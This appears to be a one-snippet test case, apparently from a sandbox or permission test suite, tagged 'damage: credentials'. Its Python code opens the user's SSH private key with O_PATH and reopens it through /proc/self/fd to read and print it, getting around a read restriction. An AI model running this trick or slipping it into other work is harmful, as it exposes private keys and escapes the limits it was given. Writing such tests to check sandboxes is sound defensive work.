# A handle that may not read is opened again as one that may.
# damage: credentials
# needs: linux
import os

handle = os.open(os.path.expanduser("~/.ssh/id_rsa"), os.O_PATH | os.O_NOFOLLOW)
print(os.read(os.open(f"/proc/self/fd/{handle}", os.O_RDONLY), 1000))
